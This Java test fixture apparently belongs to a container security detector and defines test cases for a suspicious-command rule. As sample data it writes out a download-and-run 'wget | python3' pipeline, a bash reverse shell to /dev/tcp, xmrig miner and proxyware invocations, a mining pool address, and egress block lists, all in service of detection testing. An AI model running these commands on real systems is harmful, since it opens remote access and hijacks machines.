package io.tallyman.links;

import static io.tallyman.Chain.INTERNET;
import static io.tallyman.Chain.OTHER;
import static io.tallyman.Chain.PID;
import static io.tallyman.Chain.SOON;
import static io.tallyman.Chain.SUBJECT;
import static io.tallyman.History.HOST;
import static io.tallyman.History.created;
import static io.tallyman.History.executed;
import static io.tallyman.History.started;
import static io.tallyman.links.ContainerStories.LONE;
import static io.tallyman.links.ContainerStories.NEW_DIGEST;
import static io.tallyman.links.ContainerStories.NEXT_DAY;
import static io.tallyman.links.ContainerStories.TIME_WINDOW;
import static io.tallyman.links.ContainerStories.USUAL;
import static io.tallyman.links.ContainerStories.brokenByOtherContainers;
import static io.tallyman.links.ContainerStories.brokenByOtherProcesses;
import static io.tallyman.links.ContainerStories.excluding;
import static io.tallyman.links.ContainerStories.flow;
import static io.tallyman.links.ContainerStories.run;
import static io.tallyman.links.ContainerStories.silencedByImage;
import static io.tallyman.links.ContainerStories.withWindow;

import java.time.Duration;
import java.util.stream.Stream;

/** Rows of AN0691's commands. */
final class CommandRows {

    private static final String[] CURL = {"curl", "http://" + INTERNET + "/x"};
    private static final String APPROVED = "ApprovedEgress: {networks: [198.51.100.7/32]}";
    private static final String ALMOST_APPROVED = "ApprovedEgress: {networks: [198.51.100.6/32]}";

    private CommandRows() {}

    static Stream<Row> rows() {
        return Stream.of(outbound(), newArgument(), download(), reverseShell(), miner(), proxyware(), namesBlocked());
    }

    private static Row command(String rule, Story base, String... line) {
        var whole = base.with(Link.COMMAND, run(SOON, line));
        var row = Row.deciding(rule, whole, Link.CREATION, Link.START, Link.COMMAND);
        row = silencedByImage(brokenByOtherProcesses(brokenByOtherContainers(row), line));
        return withWindow(row, Link.COMMAND, time -> run(time, line))
                .silencedBy(excluding("command: \"%s *\"".formatted(line[0])), excluding("command: \"other *\""))
                .silencedBy(
                        excluding("image: \"docker.io/evil/*\", command: \"%s *\"".formatted(line[0])),
                        excluding("image: \"docker.io/good/*\", command: \"%s *\"".formatted(line[0])));
    }

    private static Row commandOtherwise(Row row, String name, String... line) {
        return row.broken(name, row.whole().with(Link.COMMAND, run(SOON, line)));
    }

    private static Row outbound() {
        var row = command("AN0691.4 listed binary executed with an outbound argument", LONE, CURL)
                .silencedBy("SuspiciousBinaries: [wget]", "SuspiciousBinaries: [curl]")
                .silencedBy(APPROVED, ALMOST_APPROVED)
                .broken(
                        "a new digest of an allowed repository",
                        NEW_DIGEST.with(Link.COMMAND, run(NEXT_DAY.plusSeconds(5), CURL)));
        row = commandOtherwise(row, "no destination", "curl", "--version");
        row = commandOtherwise(row, "an approved destination", "curl", "http://10.1.2.3/x");
        row = commandOtherwise(row, "itself as destination", "curl", "http://127.0.0.1/x");
        return commandOtherwise(row, "a binary that is not listed", "tar", "http://" + INTERNET + "/x");
    }

    private static Row newArgument() {
        var soon = NEXT_DAY.plusSeconds(5);
        var whole = NEW_DIGEST.with(Link.COMMAND, run(soon, CURL)).with(Link.FLOW, flow(soon, INTERNET));
        return Row.adding(
                        "AN0691.4 listed binary executed with an argument new for an allowed repository",
                        whole,
                        Link.PAST,
                        Link.IMAGE,
                        Link.CREATION,
                        Link.START,
                        Link.COMMAND)
                .broken(
                        "a destination that the repository knows",
                        whole.with(Link.COMMAND, run(soon, "curl", "http://" + USUAL)))
                .broken("a binary that is not listed", whole.with(Link.COMMAND, run(soon, "tar", CURL[1])))
                .broken("another tag, which is unlisted", otherTag(whole))
                .broken("process of another container", otherContainer(whole))
                .broken("process of no container", whole.with(Link.COMMAND, executed(soon, HOST, 77, 1, CURL)))
                .silencedBy("BaselineGuard: {minimumDestinations: 3}", "BaselineGuard: {minimumDestinations: 2}")
                .silencedBy("SuspiciousBinaries: [wget]", "SuspiciousBinaries: [curl]")
                .silencedBy(APPROVED, ALMOST_APPROVED)
                .silencedBy(excluding("command: \"curl *\""), excluding("command: \"wget *\""))
                .edge(
                        "TimeWindow after the start",
                        TIME_WINDOW,
                        since -> whole.with(Link.COMMAND, run(NEXT_DAY.plus(since), CURL)))
                .edge(
                        "ClockTolerance before the start, the container being a second old",
                        Duration.ofSeconds(2),
                        before -> whole.with(Link.COMMAND, run(NEXT_DAY.minus(before), CURL)));
    }

    /* One of a digest that ran before, beside the new one. */
    private static Story otherContainer(Story whole) {
        var known = "docker.io/corp/app@" + ContainerStories.digest(11);
        return whole.with(
                        Link.CREATION,
                        created(NEXT_DAY.minusSeconds(1), SUBJECT, ContainerStories.CORP),
                        created(NEXT_DAY.minusSeconds(1), OTHER, known))
                .with(Link.START, started(NEXT_DAY, SUBJECT, PID), started(NEXT_DAY, OTHER, 9000))
                .with(Link.COMMAND, executed(NEXT_DAY.plusSeconds(5), HOST, 9001, 9000, CURL));
    }

    private static Row download() {
        String[] line = {"bash", "-c", "wget -qO- http://" + INTERNET + "/i | python3"};
        var row = command("AN0691.4 downloaded content executed", LONE.tuned("SuspiciousBinaries: []"), line)
                .silencedBy(APPROVED, ALMOST_APPROVED);
        row = commandOtherwise(row, "downloaded only", "bash", "-c", "wget -qO- http://" + INTERNET + "/i");
        return commandOtherwise(row, "downloaded from within", "bash", "-c", "wget -qO- http://10.1.2.3/i | python3");
    }

    private static Row reverseShell() {
        String[] line = {"bash", "-c", "bash -i >& /dev/tcp/10.9.9.9/443 0>&1"};
        return commandOtherwise(
                command("AN0691.4 reverse shell opened", LONE, line),
                "a shell without connection",
                "bash",
                "-c",
                "bash -i");
    }

    private static Row miner() {
        return commandOtherwise(
                command("AN0691.4 known miner executed", LONE, "xmrig", "--threads", "2"),
                "another program",
                "rig",
                "--threads",
                "2");
    }

    private static Row proxyware() {
        return commandOtherwise(
                command("AN0691.4 known proxyware executed", LONE, "traffmonetizer", "start", "accept"),
                "another program",
                "traffic",
                "start",
                "accept");
    }

    private static Row namesBlocked() {
        var row = command(
                        "AN0691.4 command names a blocked destination",
                        LONE.tuned("OutboundCIDRBlockList: {networks: [10.9.9.0/24]}"),
                        "fetcher",
                        "http://10.9.9.9/x")
                .silencedBy(
                        "OutboundCIDRBlockList: {networks: [10.9.8.0/24]}",
                        "OutboundCIDRBlockList: {networks: [10.9.9.9/32]}");
        row = commandOtherwise(row, "another destination", "fetcher", "http://10.9.8.9/x");
        return row.also("a mining pool", LONE.with(Link.COMMAND, run(SOON, "fetcher", "pool.minexmr.com:4444")));
    }

    /* Only tag 1 is trusted, and the repository's destinations are known by it. */
    static Story otherTag(Story whole) {
        return whole.tuned("ImageRegistryAllowList: [\"docker.io/corp/app:1\"]")
                .with(Link.CREATION, created(NEXT_DAY.minusSeconds(1), SUBJECT, "docker.io/corp/app:2"));
    }
}
